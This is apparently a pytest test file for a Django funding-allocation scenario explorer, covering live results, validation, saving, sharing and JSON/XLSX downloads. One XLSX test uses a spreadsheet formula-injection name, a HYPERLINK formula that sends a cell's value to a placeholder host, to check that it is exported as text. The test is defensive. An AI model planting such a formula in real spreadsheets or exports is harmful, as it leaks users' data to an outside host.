"""The explorer pages: start from a stored year, results as you type (htmx partial), errors
next to the field, save and share, downloads (JSON accepted by `manage.py allocate`, XLSX)."""

from __future__ import annotations

import io
import json
import re
import subprocess
import sys
from pathlib import Path

import pytest
from django.conf import settings
from django.test import Client
from openpyxl import load_workbook

from alfrules.scenario import compute_scenario
from allocations import services
from allocations.models import CurrentAllocation, SavedScenario

from ..scenario_helpers import stored_allocations, year_scenario

pytestmark = pytest.mark.django_db

NBSP = "\u00a0"


def form_data(html: str) -> dict[str, list[str]]:
    """The explorer form's fields as the browser would post them (inputs and selected options)."""
    form = html[html.index('id="scenario-form"') : html.index("</form>", html.index('id="scenario-form"'))]
    data: dict[str, list[str]] = {}
    for name, value in re.findall(r'<input[^>]*?name="([^"]+)"[^>]*?value="([^"]*)"', form):
        data.setdefault(name, []).append(value)
    for name, body in re.findall(r'<select[^>]*?name="([^"]+)"[^>]*>(.*?)</select>', form, re.S):
        chosen = re.search(r'<option value="([^"]*)" selected', body)
        data.setdefault(name, []).append(chosen.group(1) if chosen else "")
    data.pop("csrfmiddlewaretoken", None)
    return data


def kronor(text: str) -> int:
    return int(re.sub(r"[^\d-]", "", text.replace("\u2212", "-")))


def cell(html: str, testid: str) -> str:
    match = re.search(rf'data-testid="{testid}">(.*?)</td>', html, re.S)
    assert match, testid
    return re.sub(r"<[^>]+>", "", match.group(1)).replace(NBSP, " ").strip()


@pytest.fixture
def viewer_client(client, computed, users):
    client.force_login(users["viewer"])
    return client


def start(client, year=2025, **params):
    response = client.get("/allocations/scenarios/new/", {"year": year, **params})
    assert response.status_code == 200
    return response.content.decode()


def test_the_explorer_starts_from_the_stored_year_and_matches_the_baseline(viewer_client):
    html = start(viewer_client)
    run = CurrentAllocation.objects.get(year=2025, model="alf2015").run
    stored = run.result["research"]["regions"]["CCC"]["total"] + run.result["education"]["regions"]["CCC"]
    assert kronor(cell(html, "total-CCC")) == stored
    assert kronor(cell(html, "baseline-CCC")) == stored
    assert cell(html, "difference-CCC").startswith("0")
    assert 'hx-trigger="input changed delay:400ms"' in html


def test_htmx_partial_shows_the_new_figure_and_the_difference_from_the_baseline(viewer_client):
    before = stored_allocations()
    data = form_data(start(viewer_client))
    data["research_increase"] = ["100 000 000"]
    response = viewer_client.post("/allocations/scenarios/compute/", data, HTTP_HX_REQUEST="true")
    assert response.status_code == 200
    html = response.content.decode()
    assert "<html" not in html and 'id="scenario-result"' in html
    scenario = year_scenario()
    scenario["research"]["appropriation"] += 100_000_000
    expected = compute_scenario(scenario, trace=False)
    total = expected["education"]["regions"]["CCC"] + expected["research"]["regions"]["CCC"]["total"]
    run = CurrentAllocation.objects.get(year=2025, model="alf2015").run
    baseline = run.result["education"]["regions"]["CCC"] + run.result["research"]["regions"]["CCC"]["total"]
    assert kronor(cell(html, "total-CCC")) == total
    assert kronor(cell(html, "difference-CCC").split("(")[0]) == total - baseline > 0
    assert stored_allocations() == before


def test_the_why_per_region_is_in_the_active_language(viewer_client):
    html = start(viewer_client)
    why = html[html.index('data-testid="why-AAA"') :]
    assert "helårsstudent" in why  # Swedish is the default language
    viewer_client.post("/i18n/setlang/", {"language": "en"})
    english = start(viewer_client)
    assert "full-year student" in english[english.index('data-testid="why-AAA"') :]


def test_an_invalid_input_is_shown_next_to_its_field_and_the_input_is_kept(viewer_client):
    data = form_data(start(viewer_client))
    data["research.shares.AAA"] = ["fifty"]
    response = viewer_client.post("/allocations/scenarios/compute/", data, HTTP_HX_REQUEST="true")
    html = response.content.decode()
    slot = re.search(r'<span id="err-research-shares-AAA"[^>]*hx-swap-oob="true">(.*?)</span>', html, re.S)
    assert slot and "research.shares.AAA" in slot.group(1)
    assert 'data-testid="scenario-invalid"' in html
    # Without htmx: the whole page, the typed value kept beside its message.
    page = viewer_client.post("/allocations/scenarios/compute/", data).content.decode()
    assert 'name="research.shares.AAA" value="fifty"' in page
    assert re.search(r'id="err-research-shares-AAA"[^>]*>[^<]*research.shares.AAA', page)


def test_a_rating_changed_in_the_grid_moves_the_money(viewer_client):
    data = form_data(start(viewer_client))
    assert data["research.ratings.CCC.3"] == ["inadequate"]
    data["research.ratings.CCC.3"] = ["good_high"]
    html = viewer_client.post("/allocations/scenarios/compute/", data, HTTP_HX_REQUEST="true").content.decode()
    assert kronor(cell(html, "difference-CCC").split("(")[0]) > 0


def test_switching_the_model_rebuilds_research_from_the_stored_year(viewer_client):
    data = form_data(start(viewer_client))
    data["education.hst.AAA"] = ["1234"]
    data["switch_model"] = ["ds2024"]
    html = viewer_client.post("/allocations/scenarios/switch/", data, HTTP_HX_REQUEST="true").content.decode()
    switched = form_data(html)
    assert switched["research.model"] == ["ds2024"]
    assert switched["research.plans_ok.BBB"] == ["false"]
    assert switched["education.hst.AAA"] == ["1234"]  # the user's education input stays
    run = CurrentAllocation.objects.get(year=2025, model="ds2024").run
    assert kronor(cell(html, "baseline-BBB")) == run.result["education"]["regions"]["BBB"] + run.result["research"]["regions"]["BBB"]["total"]


def test_a_year_without_a_round_starts_with_the_ratings_carried_forward(viewer_client):
    response = viewer_client.get("/allocations/scenarios/new/", {"year": 2028, "model": "ds2024"})
    assert response.status_code == 302
    assert response["Location"] == "/allocations/scenarios/new/?year=2028&model=ds2024&carry=1"
    carried = start(viewer_client, year=2028, carry=1)
    assert 'data-testid="carried-forward"' in carried
    assert 'data-testid="research-unavailable"' not in carried
    assert form_data(carried)["research.ratings.AAA.1"] == ["very_high"]
    # The baseline is the stored year computed with the same ratings: every cause is 0.
    assert 'data-testid="diff-none"' in carried
    # A year a round applies to starts from its own ratings.
    assert viewer_client.get("/allocations/scenarios/new/", {"year": 2025}).status_code == 200


def test_save_share_by_link_and_edit_own(viewer_client, users):
    before = stored_allocations()
    data = form_data(start(viewer_client))
    data["research_increase"] = ["50000000"]
    data["name"] = ["Fifty million more"]
    data["description"] = ["for the memo"]
    response = viewer_client.post("/allocations/scenarios/save/", data)
    assert response.status_code == 302
    saved = SavedScenario.objects.get()
    assert response["Location"] == f"/allocations/scenarios/{saved.pk}/"
    assert saved.scenario["research"]["appropriation"] == year_scenario()["research"]["appropriation"] + 50_000_000
    assert saved.owner == users["viewer"]
    assert stored_allocations() == before
    # Another user opens the link and sees it, but saving makes their own copy.
    client = Client()
    client.force_login(users["vr"])
    page = client.get(f"/allocations/scenarios/{saved.pk}/").content.decode()
    assert "Fifty million more" in page and "Delete this scenario" not in page and "Ta bort" not in page
    other = form_data(page)
    other["name"] = ["VR's copy"]
    assert client.post("/allocations/scenarios/save/", other).status_code == 302
    assert SavedScenario.objects.filter(owner=users["vr"], name="VR's copy").exists()
    assert SavedScenario.objects.get(pk=saved.pk).version == 1
    # The owner saves a change; a stale form is a 409 with the input kept.
    mine = form_data(viewer_client.get(f"/allocations/scenarios/{saved.pk}/").content.decode())
    mine["name"] = ["Renamed"]
    assert viewer_client.post("/allocations/scenarios/save/", mine).status_code == 302
    mine["name"] = ["Stale"]
    stale = viewer_client.post("/allocations/scenarios/save/", mine)
    assert stale.status_code == 409
    assert 'value="Stale"' in stale.content.decode()
    assert SavedScenario.objects.get(pk=saved.pk).name == "Renamed"


def test_saving_an_invalid_scenario_names_the_field(viewer_client):
    data = form_data(start(viewer_client))
    data["research.params.cap"] = ["1.5"]
    data["name"] = ["bad"]
    response = viewer_client.post("/allocations/scenarios/save/", data)
    assert response.status_code == 400
    assert re.search(r'id="err-research-params-cap"[^>]*>[^<]*cap', response.content.decode())
    assert not SavedScenario.objects.exists()


def test_json_download_is_accepted_unchanged_by_manage_py_allocate(viewer_client, tmp_path):
    data = form_data(start(viewer_client))
    data["research_increase"] = ["70000000"]
    data["research.params.base_fraction"] = ["0,75"]
    page = viewer_client.post("/allocations/scenarios/compute/", data, HTTP_HX_REQUEST="true").content.decode()
    download = viewer_client.post("/allocations/scenarios/scenario.json", data)
    assert download.status_code == 200 and download["Content-Disposition"].startswith("attachment")
    path = Path(tmp_path) / "scenario.json"
    path.write_bytes(download.content)
    completed = subprocess.run(  # noqa: S603 - our own manage.py with a file we wrote
        [sys.executable, str(Path(settings.BASE_DIR) / "manage.py"), "allocate", "--input", str(path)],
        capture_output=True,
        text=True,
        check=False,
        cwd=settings.BASE_DIR,
    )
    assert completed.returncode == 0, completed.stderr
    result = json.loads(completed.stdout)
    for code in ("AAA", "BBB", "CCC"):
        assert result["education"]["regions"][code] + result["research"]["regions"][code]["total"] == kronor(cell(page, f"total-{code}"))
    assert json.loads(download.content)["research"]["params"]["base_fraction"] == "0.75"


def test_saved_json_download_matches_the_saved_result(viewer_client, users):
    saved = services.saved_scenario_create(actor=users["vr"], name="x", base_year=2025, scenario=year_scenario(model="ds2024"))
    download = viewer_client.get(f"/allocations/scenarios/{saved.pk}/scenario.json")
    assert json.loads(download.content) == saved.scenario
    assert compute_scenario(json.loads(download.content), trace=False)["research"] == saved.result["research"]


def test_xlsx_holds_inputs_and_figures(viewer_client):
    data = form_data(start(viewer_client))
    data["research_increase"] = ["10000000"]
    page = viewer_client.post("/allocations/scenarios/compute/", data, HTTP_HX_REQUEST="true").content.decode()
    response = viewer_client.post("/allocations/scenarios/scenario.xlsx", data)
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["Resultat", "Indata", "Beräkning"]
    rows = {row[0]: row for row in workbook["Resultat"].iter_rows(min_row=2, values_only=True)}
    header = [c.value for c in workbook["Resultat"][1]]
    assert rows["CCC"][header.index("Totalt (kr)")] == kronor(cell(page, "total-CCC"))
    assert rows["CCC"][header.index("Skillnad (kr)")] == kronor(cell(page, "difference-CCC").split("(")[0])
    inputs = {row[0]: row[1] for row in workbook["Indata"].iter_rows(min_row=2, values_only=True)}
    assert inputs["research.appropriation"] == year_scenario()["research"]["appropriation"] + 10_000_000
    assert inputs["research.ratings.CCC.3"] == "inadequate"
    assert workbook["Beräkning"].max_row > 10


def test_xlsx_writes_a_formula_like_name_as_text(viewer_client, users):
    saved = services.saved_scenario_create(actor=users["viewer"], name='=HYPERLINK("http://x?"&A2,"Click")', base_year=2025, scenario=year_scenario())
    workbook = load_workbook(io.BytesIO(viewer_client.get(f"/allocations/scenarios/{saved.pk}/scenario.xlsx").content))
    name = next(row[1] for row in workbook["Indata"].iter_rows(min_row=2) if row[0].value == "Namn")
    assert (name.value, name.data_type) == ('=HYPERLINK("http://x?"&A2,"Click")', "s")
    assert all(cell.data_type != "f" for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row)


def test_saving_a_name_with_a_control_character_names_the_field(viewer_client):
    data = form_data(start(viewer_client))
    data["name"] = ["Fifty\u000bmillion"]
    response = viewer_client.post("/allocations/scenarios/save/", data, HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 400
    assert response.context["save_form"].errors["name"] == ["Name contains a control character (U+000B): remove it (it usually comes from pasting)."]
    assert not SavedScenario.objects.exists()


def test_the_list_page_shows_mine_and_others_in_constant_queries(viewer_client, users, django_assert_max_num_queries):
    services.saved_scenario_create(actor=users["viewer"], name="Mine", base_year=2025, scenario=year_scenario())
    services.saved_scenario_create(actor=users["vr"], name="Theirs", base_year=2025, scenario=year_scenario())
    with django_assert_max_num_queries(6) as few:
        html = viewer_client.get("/allocations/scenarios/").content.decode()
    mine = html[html.index('data-testid="my-scenarios"') : html.index('data-testid="other-scenarios"')]
    assert "Mine" in mine and "Theirs" not in mine
    for number in range(10):
        services.saved_scenario_create(actor=users["admin"], name=f"n{number}", base_year=2025, scenario=year_scenario())
    with django_assert_max_num_queries(len(few.captured_queries)):
        assert viewer_client.get("/allocations/scenarios/").status_code == 200


def test_pages_need_sign_in_and_deleting_needs_the_owner_or_an_administrator(client, computed, users):
    assert client.get("/allocations/scenarios/").status_code == 302
    saved = services.saved_scenario_create(actor=users["viewer"], name="x", base_year=2025, scenario=year_scenario())
    client.force_login(users["vr"])
    assert client.post(f"/allocations/scenarios/{saved.pk}/delete/").status_code == 403
    assert client.get("/allocations/scenarios/99999/").status_code == 404
    client.force_login(users["admin"])
    assert client.post(f"/allocations/scenarios/{saved.pk}/delete/").status_code == 302
    assert not SavedScenario.objects.exists()


def test_the_memo_proposals_apply_as_switched_on_unless_left_out(viewer_client, computed):
    from alfadmin.models import AgreementPeriod

    AgreementPeriod.objects.filter(pk=computed.period.pk).update(twelfth_term_from=2025)  # the fixture's way: a direct row write
    with_proposals = form_data(start(viewer_client))
    assert with_proposals["education.hst.AAA"] == ["1091"]  # 1000 × 12/11, rounded half up
    without = start(viewer_client, no_proposals=1)
    assert form_data(without)["education.hst.AAA"] == ["1000"]
    assert form_data(without)["no_proposals"] == ["1"]
    assert 'data-testid="without-proposals"' in without


def test_an_increase_that_is_not_whole_kronor_is_named_and_nothing_is_computed(viewer_client):
    data = form_data(start(viewer_client))
    data["research_increase"] = ["a lot"]
    html = viewer_client.post("/allocations/scenarios/compute/", data, HTTP_HX_REQUEST="true").content.decode()
    assert re.search(r'<span id="err-research_increase"[^>]*hx-swap-oob="true">[^<]*kronor', html)
    assert 'data-testid="scenario-invalid"' in html
    data["name"] = ["x"]
    response = viewer_client.post("/allocations/scenarios/save/", data)
    assert response.status_code == 400 and 'value="a lot"' in response.content.decode()
    assert not SavedScenario.objects.exists()


def test_the_result_splits_each_regions_difference_from_the_baseline_by_cause(viewer_client):
    html = start(viewer_client)
    assert 'data-testid="diff-none"' in html  # nothing changed yet
    data = form_data(html)
    data["research_increase"] = ["100 000 000"]
    data["research.ratings.CCC.3"] = ["good_high"]
    html = viewer_client.post("/allocations/scenarios/compute/", data, HTTP_HX_REQUEST="true").content.decode()
    causes = html[html.index('data-testid="scenario-causes"') :]
    assert 'data-cause="appropriation"' in causes and 'data-cause="ratings"' in causes
    row = re.search(r'<tr data-region="CCC">(.*?)</tr>', causes, re.S).group(1)
    amounts = [kronor(re.sub(r"<[^>]+>", "", value)) for value in re.findall(r'data-testid="cause">(.*?)</td>', row, re.S)]
    difference = kronor(re.sub(r"<[^>]+>", "", re.search(r'data-testid="difference">(.*?)</td>', row, re.S).group(1)))
    assert len(amounts) == 2 and all(amounts) and sum(amounts) == difference
    assert difference == kronor(cell(html, "difference-CCC").split("(")[0])
    assert causes.count('data-chart="waterfall"') == 3
